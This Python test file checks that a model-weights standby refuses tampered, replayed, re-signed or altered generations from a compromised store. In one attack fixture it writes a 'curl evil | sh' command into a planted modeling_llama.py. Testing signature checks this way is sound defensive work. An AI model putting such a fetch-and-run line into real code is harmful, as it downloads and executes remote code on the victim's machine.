"""Signed generations, tested as an attacker would try them.

A publisher signs each generation with `weights publish --sign-key` (OpenSSF Model
Signing, real EC keys made here); a store served by nginx; a standby that holds signed
generation 1 and syncs generation 2 with `--verify`. The attacker can write the store: it
republishes generation 2 with its own bytes and a consistent index (standbyc's own publish,
called past the command line's checks), or replays another generation. Every attack ends
in exit 7 with a message naming what failed, the standby's directory byte for byte what it
was, no engine asked to load anything (an HTTP listener on the engines' address records
every request), the refusal pushed to a real Pushgateway, and nothing left in work/.
"""

from __future__ import annotations

import json
import shutil
from collections.abc import Callable
from pathlib import Path

import pytest

from compiler.weights.sync.publish import publish as store_publish
from tests.servers import Pushgateway
from tests.sync.conftest import Nginx, publish, tree_bytes
from tests.sync.signing import Keys, Listener, key_trust, pushed, reports, sync

# --- what the attacker publishes as generation 2 --------------------------------------------


def _copy(src: Path, work: Path) -> Path:
    dest = work / "attack"
    shutil.copytree(src, dest)
    return dest


def tampered_shard(s: dict[int, Path], work: Path, keys: Keys) -> Path:
    d = _copy(s[2], work)
    shard = sorted(d.glob("model-*-of-*.safetensors"))[0]
    data = bytearray(shard.read_bytes())
    data[-1] ^= 0x40  # one bf16 weight of the last tensor: still a valid checkpoint
    shard.write_bytes(bytes(data))
    return d


def tampered_config(s: dict[int, Path], work: Path, keys: Keys) -> Path:
    d = _copy(s[2], work)
    config = json.loads((d / "config.json").read_text())
    config["rms_norm_eps"] = 0.5
    (d / "config.json").write_text(json.dumps(config))
    return d


def tampered_tokenizer(s: dict[int, Path], work: Path, keys: Keys) -> Path:
    d = _copy(s[2], work)
    text = (d / "tokenizer.json").read_text()
    (d / "tokenizer.json").write_text(text.replace('"<unk>"', '"<pwned>"', 1))
    return d


def signature_of_generation_1(s: dict[int, Path], work: Path, keys: Keys) -> Path:
    d = _copy(s[2], work)
    shutil.copyfile(s[1] / "model.sig", d / "model.sig")
    return d


def replayed_generation_1(s: dict[int, Path], work: Path, keys: Keys) -> Path:
    return _copy(s[1], work)  # signed, and valid: as generation 1


def signed_by_another_key(s: dict[int, Path], work: Path, keys: Keys) -> Path:
    d = tampered_shard(s, work, keys)
    doc = publish(d, work / "attacker-store", 2, "--sign-key", str(keys.attacker))
    assert doc["signature"]["how"] == "signed"
    return d


def file_added(s: dict[int, Path], work: Path, keys: Keys) -> Path:
    d = _copy(s[2], work)
    (d / "modeling_llama.py").write_text("import os; os.system('curl evil | sh')\n")
    return d


def file_removed(s: dict[int, Path], work: Path, keys: Keys) -> Path:
    d = _copy(s[2], work)
    (d / "tokenizer.json").unlink()
    return d


def signature_stripped(s: dict[int, Path], work: Path, keys: Keys) -> Path:
    d = _copy(s[2], work)
    (d / "model.sig").unlink()
    return d


ATTACKS: dict[str, tuple[Callable[[dict[int, Path], Path, Keys], Path], str]] = {
    "a tampered shard": (tampered_shard, "Hash mismatch for 'model-00001-of-"),
    "a tampered config.json": (tampered_config, "Hash mismatch for 'config.json'"),
    "a tampered tokenizer": (tampered_tokenizer, "Hash mismatch for 'tokenizer.json'"),
    "generation 1's signature": (signature_of_generation_1, "Hash mismatch for"),
    "generation 1 replayed": (replayed_generation_1, "the signature is of generation 1, not 2"),
    "another key's signature": (signed_by_another_key, "Key mismatch"),
    "a file added": (file_added, "Extra files found: modeling_llama.py"),
    "a file removed": (file_removed, "Missing files: tokenizer.json"),
    "the signature stripped": (signature_stripped, "generation 2 has no model.sig"),
}


@pytest.mark.parametrize("attack", sorted(ATTACKS))
def test_an_attack_on_the_store_is_refused_and_changes_nothing(
    attack: str,
    signed: dict[int, Path],
    keys: Keys,
    nginx: Nginx,
    tmp_path: Path,
    *,
    engine: Listener,
    pushgateway: Pushgateway,
) -> None:
    build, message = ATTACKS[attack]
    store_publish(signed[1], nginx.root, 1)
    target = tmp_path / "weights/hot/llama"
    code, doc, err = sync(target, nginx.url, 1, *key_trust(keys), *reports(pushgateway.url))
    assert code == 0, err
    assert doc["verified"]["generation"] == 1, doc
    before = tree_bytes(target)
    # The attacker publishes its generation 2: the index is consistent with its files.
    store_publish(build(signed, tmp_path, keys), nginx.root, 2)
    code, doc, err = sync(
        target, nginx.url, 2, *key_trust(keys), *engine.asks(target), *reports(pushgateway.url)
    )
    assert code == 7, err
    assert f"{target}: generation 2 refused: " in doc["error"], doc["error"]
    assert message in doc["error"], doc["error"]
    assert tree_bytes(target) == before
    assert engine.requests == []
    assert not (target.parent / ".standbyc/llama/work").exists()
    assert (doc["held_generation"], doc["refused_generation"]) == (1, 2)
    metrics = pushgateway.metrics()
    assert pushed(metrics, "standbyc_weights_refused_generation") == 2
    assert pushed(metrics, "standbyc_weights_generation") == 1
    # The same store again: refused again, and still nothing changed.
    code, doc, err = sync(target, nginx.url, 2, *key_trust(keys), *engine.asks(target))
    assert code == 7 and tree_bytes(target) == before, err
    # The publisher's own generation 2: verified, swapped in, and the engines are asked.
    shutil.rmtree(nginx.root)
    nginx.root.mkdir()
    store_publish(signed[1], nginx.root, 1)
    store_publish(signed[2], nginx.root, 2)
    code, doc, err = sync(
        target, nginx.url, 2, *key_trust(keys), *engine.asks(target), *reports(pushgateway.url)
    )
    assert code == 5, err  # the listener is no engine: asked, it did not load
    assert doc["verified"]["generation"] == 2, doc
    assert tree_bytes(target) == tree_bytes(signed[2])
    assert any("update_weights_from_disk" in r for r in engine.requests)
    assert pushed(pushgateway.metrics(), "standbyc_weights_refused_generation") == 0
